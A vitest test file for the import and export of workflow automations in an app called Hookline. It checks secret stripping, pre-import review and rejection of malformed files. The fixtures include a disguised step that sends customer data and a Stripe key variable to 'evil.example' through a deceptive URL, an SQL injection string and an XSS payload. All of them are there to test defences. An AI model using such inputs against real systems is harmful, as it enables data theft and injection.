import { describe, expect, it } from 'vitest'
import { makeWorkspace } from '@/lib/services/test-world'
import { testBodies } from './test-bodies.data'
import { send } from './test-client'
import { eachInItsWorkspace } from './test-workspace'

const { workspace } = eachInItsWorkspace()
const call = (method: string, path: string, body?: unknown, key = workspace.key) =>
  send(method, path, { key, body })

const mailStep = (connectionId?: string) => ({
  ...{ key: 'mail', app: 'email', action: 'send', title: 'Mail the team' },
  input: { to: 'team@example.com', subject: 'New', text: 'x' },
  ...(connectionId ? { connectionId } : {}),
})

const documentOf = (steps: { key: string }[], rest: Record<string, unknown> = {}) => ({
  schemaVersion: 1,
  trigger: { app: 'webhook', trigger: 'received' },
  steps,
  edges: steps.map(({ key }, index) => ({ from: steps[index - 1]?.key ?? 'trigger', to: key })),
  ...rest,
})

const fileOf = (document: unknown, name = 'Shared') => ({
  ...{ kind: 'hookline-flow', v: 1, name },
  document,
})

const importing = (document: unknown, more: Record<string, unknown> = {}) =>
  call('POST', '/flows/import', { file: fileOf(document), ...more })

const draftOf = async (id: string) => (await call('GET', `/flows/${id}/draft`)).body.document

async function makeAccount(key = workspace.key): Promise<string> {
  const { body } = await call('POST', '/connections', testBodies['connections.create'], key)
  return body.id
}

describe('export', () => {
  it('gives the draft without its secrets and accounts, and the file makes the same flow again', async () => {
    const account = await makeAccount()
    const request = {
      ...{ key: 'call', app: 'http', action: 'request' },
      input: {
        url: 'https://api.example.com/{{ trigger.body.id }}',
        auth: { kind: 'bearer', token: 'the bearer token' },
        headers: { 'X-Api-Key': 'abc123', accept: 'text/plain' },
      },
    }
    const given = documentOf([request, mailStep(account)])
    const { body: flow } = await call('POST', '/flows', { name: 'Tickets', document: given })
    const { status, body: file } = await call('GET', `/flows/${flow.id}/export`)
    expect(status).toBe(200)
    expect(file).toMatchObject({ kind: 'hookline-flow', v: 1, name: 'Tickets' })
    const text = JSON.stringify(file)
    for (const secret of ['the bearer token', 'abc123', account, 'sec_']) {
      expect(text).not.toContain(secret)
    }

    const other = await makeWorkspace()
    const made = await call('POST', '/flows/import', { file }, other.key)
    expect(made).toMatchObject({ status: 201, body: { name: 'Tickets', status: 'draft' } })
    const draft = (await call('GET', `/flows/${made.body.id}/draft`, undefined, other.key)).body
    expect(JSON.stringify(draft.document)).not.toContain('‹')
    expect(draft.document.steps).toMatchObject([
      { key: 'call', input: { url: request.input.url, headers: { accept: 'text/plain' } } },
      { key: 'mail', input: { to: 'team@example.com' } },
    ])
    const codes = draft.issues.map(({ step, code }: { step: string; code: string }) => step + code)
    expect(codes).toContain('mailconnection_missing')
    expect(codes.filter((code: string) => code.startsWith('call'))).not.toEqual([])
  })
})

describe('review', () => {
  it('lists steps, accounts, secrets, variables and every place it turns to, and makes nothing', async () => {
    const hidden = {
      ...{ key: 'hidden', app: 'http', action: 'request', title: 'Format\u202e text' },
      input: {
        url: 'https://good.example@evil.example/collect',
        auth: { kind: 'bearer', token: '{{ vars.stripe_key }}' },
        body: '{{ vars.customers }}',
      },
    }
    const broken = { key: 'gone', app: 'fax', action: 'send', input: {} }
    const file = fileOf(documentOf([mailStep(), hidden, broken]))
    const { status, body } = await call('POST', '/flows/import/review', { file })
    expect(status).toBe(200)
    expect(body.steps.map(({ title }: { title: string }) => title)).toEqual([
      ...['Request received', 'Mail the team', 'Format text', 'gone'],
    ])
    expect(body.steps.at(-1)).toMatchObject({ isKnown: false, app: 'fax', number: 4 })
    expect(body.accounts).toEqual([{ app: 'email', title: 'Email', steps: ['Mail the team'] }])
    expect(body.secrets).toEqual([{ step: 'Format text', field: 'auth.token', title: 'Token' }])
    expect(body.variables).toEqual(['customers'])
    expect(body.contacts).toEqual([
      { step: 'Mail the team', kind: 'mail', value: 'team@example.com' },
      { step: 'Format text', kind: 'host', value: 'evil.example' },
    ])
    expect((await call('GET', '/flows')).body.items).toEqual([])
  })
})

describe('import', () => {
  it('puts the chosen account into the steps of its app only', async () => {
    const account = await makeAccount()
    const other = { key: 'set', app: 'data', action: 'set', input: { fields: {} } }
    const { body } = await importing(documentOf([mailStep(), other]), {
      ...{ accounts: { email: account }, name: 'Mine' },
    })
    expect(body.name).toBe('Mine')
    const [mail, set] = (await draftOf(body.id)).steps
    expect(mail.connectionId).toBe(account)
    expect(set.connectionId).toBeUndefined()
  })

  it('refuses an account of another workspace or of another app', async () => {
    const stranger = await makeWorkspace()
    const theirs = await makeAccount(stranger.key)
    const own = await makeAccount()
    for (const accounts of [{ email: theirs }, { http: own }, { email: "' OR 1=1" }]) {
      const answer = await importing(documentOf([mailStep()]), { accounts })
      expect(answer).toMatchObject({ status: 422, body: { code: 'invalid' } })
    }
  })

  it('carries no account, secret or flow that the file names, not even those of the reader', async () => {
    const account = await makeAccount()
    const { body: victim } = await call('POST', '/flows', { name: 'Victim' })
    const step = {
      ...mailStep(account),
      input: { ...mailStep().input, html: account, text: victim.id },
    }
    const { body } = await importing(
      documentOf([step], { settings: { errorFlow: victim.id, concurrency: 1 } }),
    )
    const draft = await draftOf(body.id)
    expect(JSON.stringify(draft)).not.toContain(account)
    expect(JSON.stringify(draft)).not.toContain(victim.id)
    expect(draft.settings).toEqual({ concurrency: 1 })
  })

  it('keeps steps of unknown apps, which stand in the way of publishing', async () => {
    const fax = { key: 'fax', app: 'fax', action: 'send', input: { number: '1' } }
    const { status, body } = await importing(documentOf([fax]))
    expect(status).toBe(201)
    const draft = (await call('GET', `/flows/${body.id}/draft`)).body
    expect(draft.document.steps).toMatchObject([fax])
    expect(draft.issues).toMatchObject([{ code: 'unknown_app', step: 'fax', level: 'blocker' }])
  })

  it('refuses circles, double keys and too many steps, and says so', async () => {
    const set = (key: string) => ({ key, app: 'data', action: 'set' })
    const circle = documentOf([set('a'), set('b')])
    circle.edges.push({ from: 'b', to: 'a' })
    expect((await importing(circle)).body.message).toMatch(/circle: a → b → a/)
    expect((await importing(documentOf([set('a'), set('a')]))).body.message).toMatch(/two steps/)
    const many = Array.from({ length: 10_001 }, (_, n) => set(`s${n}`))
    const answer = await importing(documentOf(many, { edges: [] }))
    expect(answer).toMatchObject({ status: 422, body: { code: 'invalid' } })
    expect(answer.body.message).toMatch(/10001 steps/)
  })

  it('refuses 100,000 steps, 5,000 levels and 50 MB unread', async () => {
    const many = Array.from({ length: 100_000 }, (_, n) => ({ key: `s${n}` }))
    const deep = `${'{"deep":'.repeat(5_000)}{}${'}'.repeat(5_000)}`
    const huge = { ...documentOf([]), notes: 'x'.repeat(50_000_000) }
    for (const document of [JSON.stringify(documentOf(many)), deep, JSON.stringify(huge)]) {
      const raw = `{"file":{"kind":"hookline-flow","v":1,"name":"x","document":${document}}}`
      const { status, body } = await send('POST', '/flows/import', { key: workspace.key, raw })
      expect([400, 413]).toContain(status)
      expect(body.code).toBe('invalid')
    }
  })

  it('refuses what is no file of a flow', async () => {
    const files: unknown[] = [
      ...[undefined, null, 'text', [], {}, documentOf([])],
      ...[{ ...fileOf(documentOf([])), v: 2 }, fileOf(null), fileOf({ schemaVersion: 9 })],
    ]
    for (const file of files) {
      const { status, body } = await call('POST', '/flows/import', { file })
      expect({ file, status, code: body.code }).toEqual({ file, status: 422, code: 'invalid' })
    }
    expect((await call('GET', '/flows')).body.items).toEqual([])
  })

  it('says of a document with a newer version that Hookline has to be updated', async () => {
    const { status, body } = await importing({ ...documentOf([]), schemaVersion: 2 })
    expect({ status, message: body.message }).toEqual({
      status: 422,
      message: 'This file was made by a newer Hookline. Update this one, then import it again.',
    })
  })

  it('takes names as plain text', async () => {
    const name = '<img src=x onerror=alert(1)>\r\n\u001b[31mlog\u202e'
    const { body } = await call('POST', '/flows/import', { file: fileOf(documentOf([]), name) })
    expect(body.name).toBe('<img src=x onerror=alert(1)> [31mlog')
  })
})
